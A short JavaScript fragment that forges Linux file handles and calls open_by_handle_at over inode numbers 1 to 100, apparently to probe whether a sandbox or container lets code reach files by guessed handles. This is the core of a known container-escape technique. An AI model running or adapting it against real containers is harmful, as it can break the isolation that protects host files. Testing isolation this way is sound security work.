const handle = inode => { const b = Buffer.alloc(16); [8, 1, inode].forEach((v, i) => b.writeUInt32LE(v, 4 * i)); return memory(b); };
say("name_to_handle_at", call("name_to_handle_at", -100, memory(Buffer.from("/etc/hostname\0")), handle(0), memory(Buffer.alloc(8)), 0));
const mount = fs.openSync("/etc/hostname"), found = new Set();
for (let n = 1; n <= 100; n++) found.add(call("open_by_handle_at", mount, handle(n), 0));
console.log("inodes 1 to 100:", [...found].join(" "));
